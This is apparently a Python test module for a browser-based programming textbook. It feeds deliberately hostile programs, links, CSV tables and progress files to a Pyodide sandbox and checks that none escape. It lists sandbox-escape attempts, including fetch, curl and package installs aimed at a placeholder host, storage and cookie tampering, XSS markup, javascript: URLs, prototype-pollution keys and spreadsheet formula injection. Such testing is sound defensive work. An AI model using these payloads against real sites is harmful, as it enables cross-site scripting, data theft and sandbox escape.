"""What a hostile hand may have written: programs, links, tables and files of progress, which somebody opens in good faith.

Each wants to reach another host, `OTHER`, to run something in the page, or to leave its own worker.
"""

import contextlib
import json
from urllib.parse import quote

from web import Handler, serve

OTHER = "OTHER"  # in a program, the address of another origin
MARKUP = "<img src=OTHERprinted onerror=hacked=1><script>hacked=1</script>"
JS = "import js\n"
TO_JS = "from pyodide.ffi import to_js\n"
NEW = "new = to_js({'create': True}, dict_converter=js.Object.fromEntries)\n"  # a file that is not there yet

ASKS = {  # for something of another host
    "fetch": "js.fetch('OTHERfetch')",
    "fetch that wants no answer": "js.fetch('OTHERfetch', to_js({'mode': 'no-cors'}, dict_converter=js.Object.fromEntries))",
    "a request that waits": "asked = js.XMLHttpRequest.new()\nasked.open('GET', 'OTHERxhr', False)\nasked.send()",
    "a socket of the web": "js.WebSocket.new('OTHERsocket'.replace('http', 'ws', 1))",
    "a stream of a socket": "js.WebSocketStream.new('OTHERstream'.replace('http', 'ws', 1))",
    "a source of events": "js.EventSource.new('OTHERevents')",
    "a script": "js.importScripts('OTHERscript.js')",
    "a module": "js.eval(\"import('OTHERmodule.js')\")",
    "a text that is run": "js.Function.new(\"fetch('OTHERtext')\")()",
    "a constructor's constructor": "js.Object.constructor(\"fetch('OTHERtext')\")()",
    "a text that is run later": "js.setTimeout(\"fetch('OTHERlater')\", 0)",
    "Pyodide's own way": "from pyodide.code import run_js\nrun_js(\"fetch('OTHERrun')\")",
    "Pyodide's module": "import pyodide_js\npyodide_js.loadPackage('OTHERpackage.whl')",
    "Pyodide's requests": "from pyodide.http import open_url\nopen_url('OTHERopen')",
    "Pyodide's promises": "from pyodide.http import pyfetch\npyfetch('OTHERpyfetch').send(None)",
    "a module that is loaded already": "import sys\nsys.modules['js'].fetch('OTHERmodules')",
    "Python's requests": "from urllib.request import urlopen\nurlopen('OTHERurl')",
    "Python's sockets": "import socket\nsocket.create_connection(('127.0.0.1', int('OTHER'.split(':')[2].split('/')[0])), 1)",
    "a program of the system": "import os\nos.system('curl OTHERcurl')",
    "a package": "import micropip\nmicropip.install('OTHERwheel.whl').send(None)",
    "a typeface": "js.FontFace.new('stolen', 'url(OTHERfont.woff2)').load()",
    "a transport": "js.WebTransport.new('OTHERtransport'.replace('http', 'https', 1))",
    "a worker of a text": "js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([\"fetch('OTHERworker')\"]))))",
    "a worker of an address": "js.Worker.new('data:text/javascript,fetch(%22OTHERdata%22)')",
    "what is kept": "js.caches.open('mine').then(lambda store: store.add('OTHERkept'))",
}
REACHES = {  # beyond the worker, in the book's own origin
    "the page": "js.document.title = 'hacked'",
    "the window": "js.window.hacked = 1",
    "the page above": "js.parent.hacked = 1",
    "what the browser keeps": "js.localStorage.setItem('hacked', '1')",
    "what the session keeps": "js.sessionStorage.setItem('hacked', '1')",
    "its databases": "js.indexedDB.open('hacked')",
    "its stores": "js.caches.open('hacked')",
    "the getter of its stores": (
        "up = js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.globalThis))\n"
        "js.Object.getOwnPropertyDescriptor(up, 'caches').get.call(js.globalThis).open('hacked by a getter')"
    ),
    "a worker, with the stores": (
        "js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([\"caches.open('hacked by a worker')\"]))))"
    ),
    "its private files": NEW + "js.navigator.storage.getDirectory().then(lambda root: root.getFileHandle('hacked', new))",
    "its older files": NEW + "js.webkitRequestFileSystemSync(0, 1000).root.getFile('hacked too', new)",
    "its cookies": "js.cookieStore.set('hacked', '1')",
    "other tabs": "js.BroadcastChannel.new('all').postMessage('hacked')",
    "the service worker": "js.navigator.serviceWorker.register('/book/hacked.js')",
    "a window": "js.open('OTHERwindow')",
    "the address": "js.location.href = 'OTHERaddress'",
    "replies of markup": (
        f"import json\ntext = json.dumps({dict.fromkeys(('printed', 'value'), MARKUP)} | {{'error': "
        f"{dict.fromkeys(('sentence', 'trace'), MARKUP)} | {{'line': 1}}, 'verdict': None, 'fresh': None}})\n"
        "for i in range(200):\n    js.postMessage(to_js({'kind': 'reply', 'id': i, 'text': text}, "
        "dict_converter=js.Object.fromEntries))"
    ),
    "progress of markup": TO_JS + f"js.postMessage(to_js({{'kind': 'progress', 'share': 1, 'sentence': '{MARKUP}'}}, "
    "dict_converter=js.Object.fromEntries))",
}
SHOWS = {  # markup, as what a program prints, is worth or gets wrong
    "printed markup": f"print({MARKUP!r})",
    "a value of markup": f"type('X', (), {{'__repr__': lambda self: {MARKUP!r}}})()",
    "an error of markup": f"raise ValueError({MARKUP!r})",
    "an error whose name is markup": f"raise type({MARKUP!r}, (Exception,), {{}})('x')",
    "a syntax error of markup": f"x = = {MARKUP}",
    "a line of markup": f"1 / 0  # {MARKUP}",
}
PROGRAMS = {name: JS + TO_JS + source for name, source in (ASKS | REACHES).items()} | SHOWS

EXERCISE = '[data-exercise="neuron-weighted-sum"]'
# What a page has, keeps and is, of which no program may change anything.
KEPT = """async () => [document.title, location.href, document.cookie, JSON.stringify({ ...localStorage, ...sessionStorage }),
    "hacked" in window, (await indexedDB.databases()).map(({ name }) => name),
    (await caches.keys()).filter(name => /hacked|mine/.test(name)),
    (await navigator.serviceWorker.getRegistrations()).map(({ active }) => active?.scriptURL),
    await Array.fromAsync((await navigator.storage.getDirectory()).keys()),
    await new Promise((done) => webkitRequestFileSystem(0, 1000, ({ root }) =>
        root.createReader().readEntries((found) => done(found.map(({ name }) => name)))))]"""


@contextlib.contextmanager
def another_origin(folder):
    """Serve an empty folder, and note who asks; the value is the address, and the list of what was asked for."""
    asked = []

    class Noting(Handler):
        def handle_one_request(self):
            super().handle_one_request()
            asked.append(getattr(self, "path", "something"))

    with serve(folder, Noting) as address:
        yield address, asked


def run(cell, source):
    """Run a program in an exercise."""
    cell.get_by_role("textbox").fill(source)
    cell.get_by_role("button", name="Run", exact=True).click()
    cell.locator('xpath=self::*[@data-state="ready"]').wait_for(timeout=120_000)


def tried(page, address, asked, programs=PROGRAMS, pause=50, patience=1):
    """Run every program in an exercise of an open page, and return what they have reached, {program: what}.

    After each program, what it has reached is looked for after a pause (in milliseconds), and again as often as `patience`
    says, until there is something: a busy machine is slow to ask.
    """
    cell, reached = page.locator(EXERCISE), {}
    run(cell, "6 * 7")
    cell.locator(".nn-value", has_text="42").wait_for(timeout=60_000)
    page.evaluate("() => { new BroadcastChannel('all').onmessage = () => { window.hacked = 1; }; }")
    before = page.evaluate(KEPT)
    for name, source in programs.items():
        run(cell, source.replace(OTHER, address))
        for _ in range(patience):
            page.wait_for_timeout(pause)
            now = page.evaluate(KEPT)
            kept, now[3] = now[3], before[3]  # the program itself is kept, as the reader's
            others = [one for one in json.loads(kept) if not one.startswith("nnlib ")]
            if asked or now != before or len(page.context.pages) > 1 or "hacked" in others:
                reached[name] = [[*asked], now, others]
                asked.clear()
                before = now
                break
    page.wait_for_timeout(1000)
    if asked:
        reached["later"] = [*asked]
    return reached


_SETTINGS = [{"task": MARKUP}, {MARKUP: 1}, {"w1": MARKUP}, {"__proto__": {"task": MARKUP}}, {"constructor": MARKUP}]
LINKS = [  # of the book's pages, with what a hand has written into them
    *(f"chapters/neuron.html?tune_a_neuron={quote(json.dumps(settings))}" for settings in _SETTINGS),
    *(f"embed/tune_a_neuron.html?tune_a_neuron={quote(json.dumps(settings))}" for settings in _SETTINGS),
    f"chapters/neuron.html?tune_a_neuron={quote(MARKUP)}",
    "chapters/neuron.html?tune_a_neuron=javascript:hacked=1",
    f"chapters/neuron.html?present={quote(MARKUP)}#{quote(MARKUP)}",
    f"chapters/neuron.html#{quote(MARKUP)}",
    f"chapters/neuron.html?{quote(MARKUP)}=1",
    f"embed/tune_a_neuron.html?theme={quote(MARKUP)}",
    f"embed/tune_a_neuron.html?hide={quote(MARKUP)}",
    "embed/tune_a_neuron.html?theme=javascript:hacked=1&hide=../../OTHERhide",
    f"search.html?q={quote(MARKUP)}",
    "search.html?q=javascript:hacked=1",
    f"404.html?{quote(MARKUP)}#{quote(MARKUP)}",
]
TABLES = [  # that a reader drops on a figure
    f"{MARKUP},b,kind\n1,2,x\n3,4,y\n5,6,x\n7,8,y",
    f"a,b,kind\n1,2,{MARKUP}\n3,4,y\n5,6,{MARKUP}\n7,8,y",
    f"a,b,kind\n1,{MARKUP},x\n3,4,y",
    'a,b,kind\n1,2,"=HYPERLINK(""OTHERformula"")"\n3,4,y\n5,6,y\n7,8,"=WEBSERVICE(""OTHERformula"")"',
    "=SUM(1;2),b,kind\n1,2,x\n3,4,y\n5,6,x\n7,8,y",
    "__proto__,constructor,toString\n1,2,x\n3,4,y\n5,6,x\n7,8,y",
    "a,b,kind\n1,2,javascript:hacked=1\n3,4,OTHERaddress\n5,6,javascript:hacked=1\n7,8,OTHERaddress",
    "a,b,kind\n1e999,-1e999,x\n3,4,y\nnan,inf,x",
    "a,b,kind\n" + "1,2,\u202e\u0000x\n3,4,\ufeffy\n" * 3,
    "\0".join(MARKUP),
    ",".join(f"c{i}" for i in range(3000)) + "\n" + ",".join("1" for _ in range(3000)),
]
PROGRESS = {  # a file of progress, each of whose texts is of a hostile hand
    "version": 1,
    "read": {MARKUP: True, "chapters/neuron": True},
    "exercises": {"neuron-weighted-sum": {"source": f"print({MARKUP!r})", "solved": True, "tries": 3}, MARKUP: {}},
    "questions": {"neuron-quiz-zero": {"chosen": [MARKUP], "right": True, "tries": MARKUP}},
    "predictions": {"neuron-predict": MARKUP, MARKUP: MARKUP},
    "times": {"read": {MARKUP: MARKUP}, "exercises": {}, "questions": {}, "predictions": {}},
    "cleared": MARKUP,
}
